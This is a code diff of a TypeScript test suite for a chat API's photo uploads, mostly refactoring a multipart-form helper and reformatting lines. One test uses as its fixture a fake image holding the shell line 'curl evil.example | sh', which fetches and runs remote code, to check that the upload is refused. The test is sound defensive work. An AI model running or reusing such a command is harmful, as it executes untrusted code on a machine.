@@ -10,7 +10,7 @@ import { STORED_NAME } from '../../storage/file-store.ts';
 import { makeUser, type SignedInUser } from '../../test/factories.ts';
 import { sql } from '../../test/outbox.ts';
 import { startTestApp, type TestApp } from '../../test/test-app.ts';
-import { listUploads, TINY_PNG } from '../requests/requests.fixtures.ts';
+import { listUploads, multipartForm, png, type FilePart } from '../../test/uploads.ts';
 import { roomPageQuery } from './base-chat.queries.ts';
 
 let app: TestApp;
@@ -21,21 +21,8 @@ afterAll(async () => {
   await app?.close();
 });
 
-interface Part {
-  name: string;
-  type: string;
-  bytes: Buffer;
-  field?: string;
-}
-const png = (name = 'crew.png'): Part => ({ name, type: 'image/png', bytes: TINY_PNG });
-
 /** The chat card's call: text fields plus repeated `photos`. */
-function form(fields: Record<string, string>, parts: Part[] = []): FormData {
-  const data = new FormData();
-  for (const [k, v] of Object.entries(fields)) data.append(k, v);
-  for (const p of parts) data.append(p.field ?? 'photos', new Blob([new Uint8Array(p.bytes)], { type: p.type }), p.name);
-  return data;
-}
+const form = (fields: Record<string, string>, parts: FilePart[] = []): FormData => multipartForm('photos', fields, parts);
 
 let keys = 0;
 const key = () => `key-${Date.now().toString(36)}-${keys++}`;
@@ -44,7 +31,8 @@ const say = (crew: SignedInUser, content: string, chatType = 'reserve', extra: R
   crew.client.post('/api/base-chat', { chatType, content, ...extra });
 const history = (crew: SignedInUser, chatType = 'reserve', before?: number) =>
   crew.client.get<ChatPage>(`/api/base-chat/${chatType}${before === undefined ? '' : `?before=${before}`}`);
-const rowsOf = (userId: number) => sql(app.databaseUrl, 'select id, content from base_chat_messages where user_id = $1 order by id', [userId]);
+const rowsOf = (userId: number) =>
+  sql(app.databaseUrl, 'select id, content from base_chat_messages where user_id = $1 order by id', [userId]);
 const onDisk = (name: string) =>
   fs.access(path.join(app.uploadDir, name)).then(
     () => true,
@@ -82,7 +70,10 @@ describe('POST /api/base-chat', () => {
 
   it('posts photos as multipart; empty text with photos is stored as a single space; the files are served', async () => {
     const me = await makeUser(app, { base: freshBase() });
-    const res = await me.client.post<ChatMessage>('/api/base-chat', form({ chatType: 'lineholder', content: '' }, [png('a.png'), png('b.png')]));
+    const res = await me.client.post<ChatMessage>(
+      '/api/base-chat',
+      form({ chatType: 'lineholder', content: '' }, [png('a.png'), png('b.png')]),
+    );
     expect(res.status).toBe(201);
     expect(res.body.content).toBe(' ');
     expect(res.body.chatType).toBe('lineholder');
@@ -99,11 +90,23 @@ describe('POST /api/base-chat', () => {
 
   it('takes six photos and refuses seven with the chat text, storing nothing', async () => {
     const me = await makeUser(app, { base: freshBase() });
-    const six = await me.client.post('/api/base-chat', form({ chatType: 'reserve', content: 'six' }, Array.from({ length: 6 }, (_, i) => png(`p${i}.png`))));
+    const six = await me.client.post(
+      '/api/base-chat',
+      form(
+        { chatType: 'reserve', content: 'six' },
+        Array.from({ length: 6 }, (_, i) => png(`p${i}.png`)),
+      ),
+    );
     expect(six.status).toBe(201);
     expect(six.body.attachments).toHaveLength(6);
     const { result: seven, left } = await filesLeftBy(() =>
-      me.client.post('/api/base-chat', form({ chatType: 'reserve', content: 'seven' }, Array.from({ length: 7 }, (_, i) => png(`p${i}.png`)))),
+      me.client.post(
+        '/api/base-chat',
+        form(
+          { chatType: 'reserve', content: 'seven' },
+          Array.from({ length: 7 }, (_, i) => png(`p${i}.png`)),
+        ),
+      ),
     );
     expect(seven.status).toBe(400);
     expect(seven.body.message).toBe(MSG.chatTooManyImages);
@@ -115,11 +118,16 @@ describe('POST /api/base-chat', () => {
   it('refuses a script named .png (the bytes decide) and a text file, storing nothing', async () => {
     const me = await makeUser(app, { base: freshBase() });
     const script = { name: 'photo.png', type: 'image/png', bytes: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n') };
-    const { result: res, left } = await filesLeftBy(() => me.client.post('/api/base-chat', form({ chatType: 'reserve', content: 'hi' }, [script])));
+    const { result: res, left } = await filesLeftBy(() =>
+      me.client.post('/api/base-chat', form({ chatType: 'reserve', content: 'hi' }, [script])),
+    );
     expect(res.status).toBe(400);
     expect(res.body.message).toBe(MSG.onlyImages);
     expect(left).toEqual([]);
-    const text = await me.client.post('/api/base-chat', form({ chatType: 'reserve', content: 'hi' }, [{ name: 'n.txt', type: 'text/plain', bytes: Buffer.from('x') }]));
+    const text = await me.client.post(
+      '/api/base-chat',
+      form({ chatType: 'reserve', content: 'hi' }, [{ name: 'n.txt', type: 'text/plain', bytes: Buffer.from('x') }]),
+    );
     expect(text.status).toBe(400);
     expect(text.body.message).toBe(MSG.onlyImages);
     expect(await rowsOf(me.user.id)).toEqual([]);
@@ -226,7 +234,9 @@ describe('POST /api/base-chat', () => {
   });
 
   it('is 401 signed out, before the upload is read', async () => {
-    const { result: res, left } = await filesLeftBy(() => app.client().post('/api/base-chat', form({ chatType: 'reserve', content: 'hi' }, [png()])));
+    const { result: res, left } = await filesLeftBy(() =>
+      app.client().post('/api/base-chat', form({ chatType: 'reserve', content: 'hi' }, [png()])),
+    );
     expect(res.status).toBe(401);
     expect(left).toEqual([]);
   });
@@ -351,7 +361,9 @@ describe('DELETE /api/base-chat/{id}', () => {
   it('deletes the own message, and its photos from the disk after the commit', async () => {
     const me = await makeUser(app, { base: freshBase() });
     const kept = (await say(me, 'kept')).body;
-    const gone = (await me.client.post<ChatMessage>('/api/base-chat', form({ chatType: 'reserve', content: 'gone' }, [png(), png('b.png')]))).body;
+    const gone = (
+      await me.client.post<ChatMessage>('/api/base-chat', form({ chatType: 'reserve', content: 'gone' }, [png(), png('b.png')]))
+    ).body;
     const files = gone.attachments.map((a) => a.filename);
     for (const f of files) expect(await onDisk(f)).toBe(true);
     const res = await me.client.delete(`/api/base-chat/${gone.id}`);
